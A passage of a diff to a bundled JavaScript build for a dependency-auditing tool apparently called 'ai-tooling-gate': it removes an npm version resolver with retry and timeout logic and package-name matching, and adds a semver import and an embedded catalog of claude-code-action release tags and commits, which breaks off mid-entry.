-                next();
-            });
-        });
-        next();
-    });
-}
-function failureOf(e) {
-    return typeof e === 'object' && e !== null ? e : {};
-}
-/** No HTTP answer at all: a timeout or a network error. */
-function isUnanswered(f, timedOut) {
-    if (timedOut || f.type === 'request-timeout')
-        return true;
-    if (f.statusCode !== undefined || f.type === 'invalid-json')
-        return false;
-    return typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403'].includes(f.code);
-}
-function isRetryable(f, timedOut) {
-    if (timedOut)
-        return true;
-    if (f.statusCode !== undefined)
-        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
-    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
-        return false;
-    if (f.type === 'invalid-json')
-        return false;
-    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
-    return typeof f.code === 'string' && f.code.startsWith('E');
-}
-/** Why a look-up failed, in words that never carry the request's credentials. */
-function describe(f, timedOut, req, where, attempts, timeoutMs) {
-    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
-    if (timedOut || f.type === 'request-timeout')
-        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
-    if (f.code === 'ETARGET')
-        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
-    if (f.code === 'E404' || f.statusCode === 404)
-        return `${req.name} not found at ${where} (HTTP 404)`;
-    if (f.statusCode === 401 || f.statusCode === 403)
-        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
-    if (f.type === 'invalid-json')
-        return `${where} answered ${req.name} with invalid JSON`;
-    if (f.statusCode !== undefined)
-        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
-    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
-        return `network error ${f.code} reaching ${where} (${tries})`;
-    return `look-up of ${req.name} at ${where} failed (${tries})`;
-}
-const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
-/**
- * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver call;
- * failures never throw: the component keeps `version: null` and `versionNote` says why.
- */
-function createNpmResolver(options) {
-    const concurrency = Math.max(1, options.concurrency ?? 8);
-    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
-    const retries = Math.max(0, options.retries ?? 2);
-    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
-    return async (components) => {
-        const wanted = components.map(registryRequest);
-        if (!wanted.some((w) => w !== null)) {
-            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
-        }
-        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
-        let config = null;
-        let errors = [];
-        if (!options.offline) {
-            config = loadNpmConfig({
-                root: options.root,
-                env: options.env,
-                ...(options.registry !== undefined ? { registry: options.registry } : {}),
-                ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
-            });
-            errors = config.errors;
-        }
-        const limit = limiter(concurrency);
-        // One packument request per package per run: specs of one package are looked up one after
-        // the other, the first fills pacote's in-memory packument cache and the rest read it; when
-        // the first fails for a reason that is about the package, the rest share that reason.
-        const packumentCache = new Map();
-        const lookups = new Map();
-        const lastOfPackage = new Map();
-        // A registry that answers nothing (down, blackholed) would cost every package the full
-        // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
-        const unanswered = new Map();
-        // pacote and its dependencies take most of a second to load: only runs that look up pay it.
-        let pacoteModule = null;
-        const loadPacote = () => (pacoteModule ??= __nccwpck_require__.e(/* import() */ 710).then(__nccwpck_require__.t.bind(__nccwpck_require__, 92710, 23)).then((m) => m.default));
-        const lookUp = async (cfg, req) => {
-            const { manifest } = await loadPacote();
-            const registry = registryFor(cfg, req.name);
-            const where = displayRegistry(registry);
-            const spec = npa_default().resolve(req.name, req.spec).toString();
-            const down = unanswered.get(registry);
-            if (down && down.inARow >= UNREACHABLE_AFTER) {
-                return {
-                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
-                    byPackage: true,
-                };
-            }
-            let attempt = 0;
-            for (;;) {
-                attempt++;
-                stats.attempts++;
-                const controller = new AbortController();
-                let timedOut = false;
-                const timer = setTimeout(() => {
-                    timedOut = true;
-                    controller.abort();
-                }, timeoutMs);
-                try {
-                    const opts = {
-                        registry,
-                        fullMetadata: false,
-                        preferOnline: true,
-                        packumentCache,
-                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
-                        fetchRetries: 0,
-                        timeout: timeoutMs,
-                        signal: controller.signal,
-                        userAgent: 'ai-tooling-gate (pacote)',
-                    };
-                    for (const [k, v] of cfg.auth)
-                        opts[k] = v;
-                    // The signal aborts the request; the race makes sure nothing waits past the timeout
-                    // even if some layer below does not honour it.
-                    const found = await Promise.race([
-                        manifest(spec, opts),
-                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
-                    ]);
-                    unanswered.delete(registry);
-                    const version = typeof found.version === 'string' ? found.version : '';
-                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
-                        return { reason: `${where} answered ${req.name} with an invalid version` };
-                    }
-                    return { version, registry: where };
-                }
-                catch (e) {
-                    const f = failureOf(e);
-                    if (attempt <= retries && isRetryable(f, timedOut)) {
-                        clearTimeout(timer);
-                        await sleep(retryDelayMs * 2 ** (attempt - 1));
-                        continue;
-                    }
-                    const reason = describe(f, timedOut, req, where, attempt, timeoutMs);
-                    if (isUnanswered(f, timedOut)) {
-                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
-                        unanswered.set(registry, { inARow, last: reason });
-                    }
-                    else
-                        unanswered.delete(registry);
-                    return { reason, byPackage: f.code !== 'ETARGET' };
-                }
-                finally {
-                    clearTimeout(timer);
-                }
-            }
-        };
-        const outcomes = await Promise.all(wanted.map((w) => {
-            if (w === null)
-                return Promise.resolve(null);
-            if ('reason' in w)
-                return Promise.resolve(w);
-            if (config === null)
-                return Promise.resolve({ reason: OFFLINE_NOTE });
-            const key = `${w.name}@${w.spec}`;
-            let p = lookups.get(key);
-            if (!p) {
-                const cfg = config;
-                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
-                p = previous.then((before) => {
-                    if (before && 'reason' in before && before.byPackage)
-                        return before;
-                    stats.lookups++;
-                    return limit(() => lookUp(cfg, w)).catch((e) => ({
-                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
-                    }));
-                });
-                lookups.set(key, p);
-                lastOfPackage.set(w.name, p);
-            }
-            return p;
-        }));
-        const secrets = config?.secrets ?? [];
-        const out = components.map((c, i) => {
-            const outcome = outcomes[i];
-            const w = wanted[i];
-            if (!outcome || !w)
-                return c;
-            if ('version' in outcome && !('reason' in w)) {
-                stats.resolved++;
-                return {
-                    ...c,
-                    version: outcome.version,
-                    purl: purlFor(c.ecosystem, c.name, outcome.version),
-                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
-                };
-            }
-            stats.unresolved++;
-            const reason = 'reason' in outcome ? outcome.reason : '';
-            return {
-                ...c,
-                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
-            };
-        });
-        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
-    };
-}
-
-;// CONCATENATED MODULE: ./src/resolver/index.ts
-
-
-/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
-function auditResolveHook(resolver) {
-    return async (components, errors) => {
-        const result = await resolver(components);
-        if (result.errors)
-            errors.push(...result.errors);
-        return result.components;
-    };
-}
-
-// EXTERNAL MODULE: ./node_modules/picomatch/index.js
-var picomatch = __nccwpck_require__(14006);
-var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-;// CONCATENATED MODULE: ./src/policy/names.ts
-
-/** The canonical form of a name for comparison in its ecosystem. */
-function normalizeName(ecosystem, name) {
-    switch (ecosystem) {
-        case 'pypi':
-            return name.toLowerCase().replace(/[-_.]+/g, '-'); // PEP 503
-        case 'vscode-extension':
-        case 'devcontainer-feature':
-        case 'github-action':
-        case 'homebrew':
-            return name.toLowerCase();
-        default:
-            return name;
-    }
-}
-const matcherCache = new Map();
-/** Whether a name matches an exact name or a `*` glob, in the ecosystem's comparison. */
-function nameMatches(ecosystem, pattern, name) {
-    const p = normalizeName(ecosystem, pattern);
-    const n = normalizeName(ecosystem, name);
-    if (!p.includes('*') && !p.includes('?'))
-        return p === n;
-    let m = matcherCache.get(p);
-    if (!m) {
-        m = picomatch_default()(p, { dot: true, nobrace: true, noextglob: true });
-        matcherCache.set(p, m);
-    }
-    return m(n);
-}
 
 ;// CONCATENATED MODULE: ./node_modules/@renovatebot/pep440/lib/version.js
 const VERSION_PATTERN = [
@@ -19575,14 +18482,31 @@ function inc(input, release, preReleaseIdentifier) {
 
 
 
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var semver = __nccwpck_require__(62088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
+;// CONCATENATED MODULE: ./src/catalog/data/claude-code-action-tags.json
+const claude_code_action_tags_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"2026-11-24","P9":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","Kb":["v0","v1","beta"],"_A":{"v0.0.1":{"commit":"f66f337f4e2000f427352c56f5537b872ab337eb","date":"2025-05-19","cliVersions":[]},"v0.0.2":{"commit":"ff02ba57223daa31e233a274d57510b97a238d23","date":"2025-05-19","cliVersions":[]},"v0.0.3":{"commit":"c9d5a9d073e4a3d851a733f11c0afd4e533bea4f","date":"2025-05-19","cliVersions":[]},"v0.0.4":{"commit":"48b327f164cb1bbd1fe356e58b70301a78849726","date":"2025-05-21","cliVersions":[]},"v0.0.5":{"commit":"11f5812e2877ff5798b1fa862bdaec784d4eaf52","date":"2025-05-22","cliVersions":[]},"v0.0.6":{"commit":"80dbb4a5aa0c50d1c4ff7ce907c9bb96b30cb841","date":"2025-05-22","cliVersions":[]},"v0.0.7":{"commit":"8e84799f37d42f24e0ebae41205346879bdcab5a","date":"2025-05-22","cliVersions":[]},"v0.0.8":{"commit":"253f2c6796983b2297997f0c3d9960406cc9fd3b","date":"2025-05-27","cliVersions":[]},"v0.0.9":{"commit":"176dbc369d796d013d5286056ffc5a45faa9a606","date":"2025-05-28","cliVersions":[]},"v0.0.10":{"commit":"5a787ed8ab3eee302d46b948267a5c2cb6163314","date":"2025-05-29","cliVersions":[]},"v0.0.11":{"commit":"8da47815ec964716298696421c21e1ddf85a3f7b","date":"2025-05-29","cliVersions":[]},"v0.0.12":{"commit":"f6e559763308297490c3ee55d7753cf969ceafa8","date":"2025-06-02","cliVersions":[]},"v0.0.13":{"commit":"65b9bcde802ac5a3001a401e6cfe69325bf90b9e","date":"2025-06-02","cliVersions":[]},"v0.0.14":{"commit":"4bd9c2053aef2ba7e636657860ce3edcefd40d4e","date":"2025-06-06","cliVersions":[]},"v0.0.15":{"commit":"47ea5c2a699c59955750d39be0a9ba04bbe9dfb9","date":"2025-06-06","cliVersions":[]},"v0.0.16":{"commit":"37483ba1128de6e5b33da71cff57ee65c25a4372","date":"2025-06-09","cliVersions":[]},"v0.0.17":{"commit":"bdd0c925cb06995712d4dbd690e8b8bc513a08eb","date":"2025-06-10","cliVersions":[]},"v0.0.18":{"commit":"b10f287695caa3a755ab23184c63137ab72b7843","date":"2025-06-11","cliVersions":[]},"v0.0.19":{"commit":"41dd0aa695a06b94f18ce26fd851bfd6ed9d8760","date":"2025-06-12","cliVersions":[]},"v0.0.20":{"commit":"e0d3fec39f30dc4ed990b3ada4cbed665ce797a0","date":"2025-06-16","cliVersions":[]},"v0.0.21":{"commit":"bcf2fe94f89c58fa167a7bf50fe21389f235ec04","date":"2025-06-17","cliVersions":[]},"v0.0.22":{"commit":"3486c33ebfa03d71c98e72621759471c45388443","date":"2025-06-17","cliVersions":[]},"v0.0.23":{"commit":"237de9d3299f5e6ec4c97fe3a57ea0fb8f658c09","date":"2025-06-20","cliVersions":[]},"v0.0.24":{"commit":"ebbd9e9be4686249a2952e1a558bbaba07524380","date":"2025-06-20","cliVersions":[]},"v0.0.25":{"commit":"ece712ea816f4853a4c2ebb2455f60c24a5c704c","date":"2025-06-26","cliVersions":[]},"v0.0.26":{"commit":"bcb072b63fcbee749b2ac4fbb9f6106681a4b5d9","date":"2025-07-01","cliVersions":[]},"v0.0.27":{"commit":"00f9595fb44d49fdc15049286d89247d29a08f2b","date":"2025-07-01","cliVersions":[]},"v0.0.28":{"commit":"aa28d465c5331a8835092447d4e8623e883e5c93","date":"2025-07-03","cliVersions":[]},"v0.0.29":{"commit":"e43c1b7facfb79ed6e0e3f9a70188ecdef3e51a0","date":"2025-07-04","cliVersions":[]},"v0.0.30":{"commit":"a804c9e83f1c7a3288cc7a7bbca208491a4bb2f8","date":"2025-07-07","cliVersions":[]},"v0.0.31":{"commit":"87facd7051952ac2f27354dfadb90dc91e9ebc76","date":"2025-07-09","cliVersions":[]},"v0.0.32":{"commit":"cefe963a6b4ae0e511c59b9d6cb6b7b5923714a1","date":"2025-07-10","cliVersions":[]},"v0.0.33":{"commit":"a9d9ad3612d6d61922fb1af719a32b9f1366f3f2","date":"2025-07-15","cliVersions":[]},"v0.0.34":{"commit":"d4d7974604c97ec79208ca115b863b41a325d62d","date":"2025-07-17","cliVersions":[]},"v0.0.35":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.36":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.37":{"commit":"dfa92d695228cdc22697d203b91e4104e7e84ae8","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.38":{"commit":"f6e7adf89ef0a0b369a2b7e69a78bbb7cdb0030c","date":"2025-07-18","cliVersions":["1.0.53"]},"v0.0.39":{"commit":"de86beb3aee5187589f6ef3483c72172dd653b68","date":"2025-07-19","cliVersions":["1.0.56"]},"v0.0.40":{"commit":"93df09fd88688c19bd9e4ca40e5c7281cba39ed1","date":"2025-07-19","cliVersions":["1.0.56"]},"v0.0.41":{"commit":"8f551b358eb856cb921515b1b024d6152edc30aa","date":"2025-07-21","cliVersions":["1.0.57"]},"v0.0.42":{"commit":"0d204a659945e889be1b5a7d7f9e9ea83515a682","date":"2025-07-22","cliVersions":["1.0.57"]},"v0.0.43":{"commit":"0763498a5a7dd1778edfb255374e71ce88d91d6b","date":"2025-07-22","cliVersions":[]},"v0.0.44":{"commit":"e26577a930883943cf9d90885cd1e8da510078dd","date":"2025-07-23","cliVersions":[]},"v0.0.45":{"commit":"7c5a98d59d2464ae73f453c3e649f5b813374481","date":"2025-07-25","cliVersions":["1.0.59","1.0.61"]},"v0.0.46":{"commit":"6037d754ac402c2bebd7b593fcccf5a5da157eb8","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.47":{"commit":"e07ea013bd13b5c183d3314c6070fab61daec759","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.48":{"commit":"af32fd318a5746954afb2190f98f055799d46e72","date":"2025-07-29","cliVersions":["1.0.62"]},"v0.0.49":{"commit":"6672e9b357e9c7bac9626573784462f9bd1e4212","date":"2025-07-30","cliVersions":["1.0.63"]},"v0.0.50":{"commit":"1f6e3225b088699398302ad624c21c1d780d082f","date":"2025-07-30","cliVersions":["1.0.64"]},"v0.0.51":{"commit":"1b4ac7d7e0f097d23bf4730891060f8d3c11f580","date":"2025-07-31","cliVersions":["1.0.65"]},"v0.0.52":{"commit":"b39377f9bcc6f88c9cd3e00e08f5423febff8dc5","date":"2025-08-04","cliVersions":["1.0.67"]},"v0.0.53":{"commit":"188d526721c4b76a779f8af9a10fe73b500a2fbf","date":"2025-08-05","cliVersions":["1.0.69"]},"v0.0.54":{"commit":"15db2b3c79c0681556c056e9bc3f61fd3fc0347d","date":"2025-08-06","cliVersions":["1.0.69"]},"v0.0.55":{"commit":"6d5c92076ba3f5240a002d916ca6f91c5fa05529","date":"2025-08-08","cliVersions":["1.0.71"]},"v0.0.56":{"commit":"a80505bbfb8296afe47872cf5ada5b2034ad8c45","date":"2025-08-12","cliVersions":["1.0.77"]},"v0.0.57":{"commit":"0b138d9d491aac05f09b58c13bcdf46888a7d08c","date":"2025-08-14","cliVersions":["1.0.81"]},"v0.0.58":{"commit":"a1507aefdc04f00f278407dba905d158ac62399e","date":"2025-08-15","cliVersions":[]},"v0.0.59":{"commit":"02e9ed31816be8cb8d521a26f4ba981e5c89ac5e","date":"2025-08-18","cliVersions":[]},"v0.0.60":{"commit":"68b7ca379c023e06c7d12ad2c81e346b1670cf8c","date":"2025-08-18","cliVersions":[]},"v0.0.61":{"commit":"194fca8b05f044ca6678c516c60c73d6b1d6dbae","date":"2025-08-19","cliVersions":[]},"v0.0.62":{"commit":"9f02f6f6d43ec1d1da0f80028250535a057f3f32","date":"2025-08-20","cliVersions":[]},"beta":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v0.0.63":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v0":{"commit":"28f83620103c48a57093dcc2837eec89e036bb9f","date":"2025-08-22","cliVersions":[]},"v1.0.0":{"commit":"0630ef383a451c46ccac86eb86ee7641e99c4c9a","date":"2025-08-25","cliVersions":[]},"v1.0.1":{"commit":"c05ccc5ce416f3129e97c8d17188813fef66f002","date":"2025-08-26","cliVersions":[]},"v1.0.2":{"commit":"0c127307fa529d701bc1f0f8f9c0bea881c49a9b","date":"2025-08-28","cliVersions":[]},"v1.0.3":{"commit":"a6888c03f22170d00d2a92fa2317584ca7d5e108","date":"2025-08-29","cliVersions":[]},"v1.0.4":{"commit":"2e6fc44bd4c8c7f287e83a4dccc480a220f8ae4a","date":"2025-09-02","cliVersions":[]},"v1.0.5":{"commit":"fd2c17f101639b10696381c1fd85fa735239090a","date":"2025-09-04","cliVersions":[]},"v1.0.6":{"commit":"a3ff61d47aa5118a43b33ae44c4087d9eb51111a","date":"2025-09-09","cliVersions":[]},"v1.0.7":{"commit":"a5528eec7426a4f0c9c1ac96018daa53ebd05bc4","date":"2025-09-12","cliVersions":[]},"v1.0.8":{"commit":"7ed3b616d54fd445625b77b219342949146bae9e","date":"2025-09-16","cliVersions":[]},"v1.0.9":{"commit":"426380f01bad0a17200865605a85cb28926dccbf","date":"2025-09-26","cliVersions":[]},"v1.0.10":{"commit":"90d189f3abd48655ec3e2c67c552cc23e92d6028","date":"2025-09-30","cliVersions":[]},"v1.0.11":{"commit":"ac1a3207f3f00b4a37e2f3a6f0935733c7c64651","date":"2025-10-06","cliVersions":[]},"v1.0.12":{"commit":"777ffcbfc9d2e2b07f3cfec41b7c7eadedd1f0dc","date":"2025-10-09","cliVersions":[]},"v1.0.13":{"commit":"e8bad572273ce919ba15fec95aef0ce974464753","date":"2025-10-14","cliVersions":[]},"v1.0.14":{"commit":"f30f5eecfce2f34fa72e40fa5f7bcdbdcad12eb8","date":"2025-10-21","cliVersions":[]},"v1.0.15":{"commit":"f4d737af0b61a79741d8246c5207da5887746212","date":"2025-10-27","cliVersions":[]},"v1.0.16":{"commit":"8a1c4371755898f67cd97006ba7c97702d5fc4bf","date":"2025-10-29","cliVersions":[]},"v1.0.17":{"commit":"906bd89c74d21481682b0d428064c01578ae29d7","date":"2025-11-18","cliVersions":[]},"v1.0.18":{"commit":"6902c227aaa9536481b99d56f3014bbbad6c6da8","date":"2025-11-18","cliVersions":[]},"v1.0.19":{"commit":"f9b2917716eb547b52148c7805dffe3a57864094","date":"2025-11-21","cliVersions":[]},"v1.0.20":{"commit":"798cf0988d672fc8049482ce79e55d909193e150","date":"2025-11-21","cliVersions":["2.0.50"]},"v1.0.21":{"commit":"a7e4c51380c42dd89b127f5e5f9be7b54020bc6b","date":"2025-11-24","cliVersions":["2.0.50"]},"v1.0.22":{"commit":"6337623ebba10cf8c8214b507993f8062fd4ccfb","date":"2025-12-01","cliVersions":["2.0.55"]},"v1.0.23":{"commit":"f0c8eb29807907de7f5412d04afceb5e24817127","date":"2025-12-09","cliVersions":["2.0.62"]},"v1.0.24":{"commit":"9acae263e77da97965c98d00cd907a992877e5e8","date":"2025-12-15","cliVersions":["2.0.70"]},"v1.0.25":{"commit":"d7b6d50442a89f005016e778bf825a72ef582525","date":"2025-12-16","cliVersions":["2.0.70"]},"v1.0.26":{"commit":"0d1933529914177075d5bc3558ae3d047f188146","date":"2025-12-17","cliVersions":["2.0.72"]},"v1.0.27":{"commit":"7145c3e0510bcdbdd29f67cc4a8c1958f1acfa2f","date":"2025-12-19","cliVersions":["2.0.74"]},"v1.0.28":{"commit":"c9ec2b02b40ac0444c6716e51d5e19ef2e0b8d00","date":"2026-01-06","cliVersions":["2.0.76"]},"v1.0.29":{"commit":"1b8ee3b94104046d71fde52ec3557651ad8c0d71","date":"2026-01-08","cliVersions":["2.1.1"]},"v1.0.30":{"commit":"a017b830c03e23789b11fb69ed571ea61c12e45c","date":"2026-01-16","cliVersions":["2.1.9"]},"v1.0.31":{"commit":"2316a9a8dbe4e7ac26008088f966f8c290e9a2e1","date":"2026-01-21","cliVersions":["2.1.15"]},"v1.0.32":{"commit":"2804b4174b054e2240c1e706c901b7d84f3d43f5","date":"2026-01-22","cliVersions":["2.1.16"]},"v1.0.33":{"commit":"8341a564b0c1693e9fa29c681852ee3714980098","date":"2026-01-22","cliVersions":["2.1.17"]},"v1.0.34":{"commit":"f64219702d7454cf29fe32a74104be6ed43dc637","date":"2026-01-23","cliVersions":["2.1.19"]},"v1.0.35":{"commit":"4126f9d9757c0875ff758aa45f3935bc9e3dd1e9","date":"2026-01-27","cliVersions":["2.1.20"]},"v1.0.36":{"commit":"231bd75b7196d48291c1498f1c6d277c2810d9a3","date":"2026-01-26","cliVersions":["2.1.20"]},"v1.0.37":{"commit":"2817c54db8f44f3a0485d57292566bf07d428a25","date":"2026-01-28","cliVersions":["2.1.22"]},"v1.0.38":{"commit":"ff34ce0ff04a470bd3fa56c1ef391c8f1c19f8e9","date":"2026-01-29","cliVersions":["2.1.23"]},"v1.0.39":{"commit":"01e756b34ef7a1447e9508f674143b07d20c2631","date":"2026-01-29","cliVersions":["2.1.25"]},"v1.0.40":{"commit":"0ed5eeaa54d3b0170e79f1ff29996342cf0605f1","date":"2026-01-30","cliVersions":["2.1.27"]},"v1.0.41":{"commit":"70e16deb18402428bd09e08d1ec3662a872e3c72","date":"2026-01-31","cliVersions":["2.1.29"]},"v1.0.42":{"commit":"98af40b63cf43de3440823d121ad65e9937b4541","date":"2026-02-03","cliVersions":["2.1.30"]},"v1.0.43":{"commit":"6867bb3ab0b2c0a10629b6823e457347e74ad6d2","date":"2026-02-04","cliVersions":["2.1.31"]},"v1.0.44":{"commit":"006aaf2935208098c2b871c8233c9637db8b553d","date":"2026-02-05","cliVersions":["2.1.31","2.1.32"]},"v1.0.45":{"commit":"b113f49a56229d8276e2bf05743ad6900121239c","date":"2026-02-06","cliVersions":["2.1.31","2.1.33"]},"v1.0.46":{"commit":"6c61301d8e1ee91bef7b65172f93462bbb216394","date":"2026-02-07","cliVersions":["2.1.31","2.1.37"]},"v1.0.47":{"commit":"b433f16b30d54063fd3bab6b12f46f3da00e41b6","date":"2026-02-10","cliVersions":["2.1.31","2.1.38"]},"v1.0.48":{"commit":"23ed4cb53d6eacddbc22ec16652c98bcc54e0476","date":"2026-02-10","cliVersions":["2.1.31","2.1.39"]},"v1.0.49":{"commit":"f669191d7d1e67f08a54b0c11cf5683a9a391951","date":"2026-02-12","cliVersions":["2.1.31","2.1.39"]},"v1.0.50":{"commit":"c22f7c3f9dbdf2faa98a4c3139f7ec9eb5a691dc","date":"2026-02-12","cliVersions":["2.1.31","2.1.39"]},"v1.0.51":{"commit":"ea36d6abdedc17fc2a671b36060770b208a6f8f1","date":"2026-02-13","cliVersions":["2.1.31","2.1.42"]},"v1.0.52":{"commit":"68cfeead1890300cc87935dbe2c023825be87b8a","date":"2026-02-15","cliVersions":["2.1.42"]},"v1.0.53":{"commit":"2f8ba26a219c06cfb0f468eef8d97055fa814f97","date":"2026-02-16","cliVersions":["2.1.44"]},"v1.0.54":{"commit":"0cf5eeec4f908121edd03a81411b55485994f8d3","date":"2026-02-18","cliVersions":["2.1.47"]},"v1.0.55":{"commit":"edd85d61533cbba7b57ed0ca4af1750b1fdfd3c4","date":"2026-02-19","cliVersions":["2.1.49"]},"v1.0.56":{"commit":"fa3312a107acfa81df144e00a50bb0ef147f0eef","date":"2026-02-24","cliVersions":["2.1.51"]},"v1.0.57":{"commit":"35a9e0292d36f1186f5d842b14eb575074e8b450","date":"2026-02-24","cliVersions":["2.1.52"]},"v1.0.58":{"commit":"6ae1b29ba24a87419d013ae521ac0720d5771505","date":"2026-02-25","cliVersions":["2.1.53"]},"v1.0.59":{"commit":"48fe7dd592a95d1620f0194d0c3d741a6211408f","date":"2026-02-25","cliVersions":["2.1.55"]},"v1.0.60":{"commit":"ade221fd1c400376a4799977d683a4eda09f9d7c","date":"2026-02-25","cliVersions":["2.1.56"]},"v1.0.61":{"commit":"cd4b150a2afcef337765d988d8b2cf49d48d2ad2","date":"2026-02-25","cliVersions":["2.1.58"]},"v1.0.62":{"commit":"273fe825408ddced56cb02b228a74c72bed8241e","date":"2026-02-26","cliVersions":["2.1.59"]},"v1.0.63":{"commit":"1dd74842e568f373608605d9e45c9e854f65f543","date":"2026-02-26","cliVersions":["2.1.61"]},"v1.0.64":{"commit":"ba7fa4bcf054319261202aef93d71a89112a8d00","date":"2026-02-28","cliVersions":["2.1.63"]},"v1.0.65":{"commit":"220272d38887a1caed373da96a9ffdb0919c26cc","date":"2026-03-01","cliVersions":["2.1.63"]},"v1.0.66":{"commit":"64c7a0ef71df67b14cb4471f4d9c8565c61042bf","date":"2026-03-02","cliVersions":["2.1.63"]},"v1.0.67":{"commit":"5f8e5bfe5b03891348854ae401476fc905a6ff6a","date":"2026-03-04","cliVersions":["2.1.66"]},"v1.0.68":{"commit":"e763fe78de2db7389e04818a00b5ff8ba13d1360","date":"2026-03-04","cliVersions":["2.1.68"]},"v1.0.69":{"commit":"1fc90f3ed982521116d8ff6d85b948c9b12cae3e","date":"2026-03-05","cliVersions":["2.1.69"]},"v1.0.70":{"commit":"26ec041249acb0a944c0a47b6c0c13f05dbc5b44","date":"2026-03-06","cliVersions":["2.1.70"]},"v1.0.71":{"commit":"5d0cc745cd0cce4c0e9e0b3511de26c3bc285eb5","date":"2026-03-12","cliVersions":["2.1.73"]},"v1.0.72":{"commit":"cd77b50d2b0808657f8e6774085c8bf54484351c","date":"2026-03-14","cliVersions":["2.1.76"]},"v1.0.73":{"commit":"1b422b3517b51140e4484faab676c5e68b914866","date":"2026-03-17","cliVersions":["2.1.78"]},"v1.0.74":{"commit":"1ba15be4f0b0c9a026c0c7986668f8f2aa998440","date":"2026-03-18","cliVersions":["2.1.78"]},"v1.0.75":{"commit":"df37d2f0760a4b5683a6e617c9325bc1a36443f6","date":"2026-03-18","cliVersions":["2.1.79"]},"v1.0.76":{"commit":"6062f3709600659be5e47fcddf2cf76993c235c2","date":"2026-03-20","cliVersions":["2.1.81"]},"v1.0.77":{"commit":"ff9acae5886d41a99ed4ec14b7dc147d55834722","date":"2026-03-23","cliVersions":["2.1.81"]},"v1.0.78":{"commit":"0ee1beea589a67d33340072691a5d42abec7ae6b","date":"2026-03-25","cliVersions":["2.1.83"]},"v1.0.79":{"commit":"3ac52d0da9f8ec9ca7b4dc23bb477e36ef9c77a9","date":"2026-03-26","cliVersions":["2.1.84"]},"v1.0.80":{"commit":"094bd24d575e7b30ac1576024817bf1a97c81262","date":"2026-03-26","cliVersions":["2.1.85"]},"v1.0.81":{"commit":"e7b588b6eaa5263c2e7c6c7b34a29e190d32ee68","date":"2026-03-27","cliVersions":["2.1.86"]},"v1.0.82":{"commit":"88c168b39e7e64da0286d812b6e9fbebb6708185","date":"2026-03-29","cliVersions":["2.1.87"]},"v1.0.83":{"commit":"bee87b3258c251f9279e5371b0cc3660f37f3f77","date":"2026-04-01","cliVersions":["2.1.89"]},"v1.0.84":{"commit":"408a40e7c283816edd884ce7e99d7b535a396d89","date":"2026-04-01","cliVersions":["2.1.87"]},"v1.0.85":{"commit":"58dbe8ed6879f0d3b02ac295b20d5fdfe7733e0c","date":"2026-04-01","cliVersions":["2.1.90"]},"v1.0.86":{"commit":"ba026a3e56b9f646ae3b1be02dd9c0812aa2f8ae","date":"2026-04-02","cliVersions":["2.1.90"]},"v1.0.87":{"commit":"0432df8bfe0572278dd19bca33be32cdc8061ebb","date":"2026-04-03","cliVersions":["2.1.91"]},"v1.0.88":{"commit":"1eddb334cfa79fdb21ecbe2180ca1a016e8e7d47","date":"2026-04-04","cliVersions":["2.1.92"]},"v1.0.89":{"commit":"6e2bd52842c65e914eba5c8badd17560bd26b5de","date":"2026-04-05","cliVersions":["2.1.92"]},"v1.0.90":{"commit":"26ddc358fe3befff50c5ec2f80304c90c763f6f8","date":"2026-04-08","cliVersions":["2.1.96"]},"v1.0.91":{"commit":"2ff1acb3ee319fa302837dad6e17c2f36c0d98ea","date":"2026-04-08","cliVersions":["2.1.97"]},"v1.0.92":{"commit":"657fb7c9c986158a19624b357bcbc8c6deb83598","date":"2026-04-09","cliVersions":["2.1.98"]},"v1.0.93":{"commit":"b47fd721da662d48c5680e154ad16a73ed74d2e0","date":"2026-04-10","cliVersions":["2.1.101"]},"v1.0.94":{"commit":"1c8b699d43e9bfed42b48ef15da85d89bab70960","date":"2026-04-13","cliVersions"